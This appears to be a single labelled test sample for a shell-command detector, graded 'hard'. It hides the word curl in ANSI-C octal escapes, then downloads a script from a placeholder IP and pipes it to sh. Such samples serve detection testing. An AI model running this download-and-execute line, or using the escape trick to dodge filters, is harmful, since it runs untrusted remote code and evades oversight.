# evasion: curl named in ANSI-C octal escapes
# grade: hard; does: download-run
x=$'\143\165\162\154'
$x -s http://203.0.113.5/s | sh
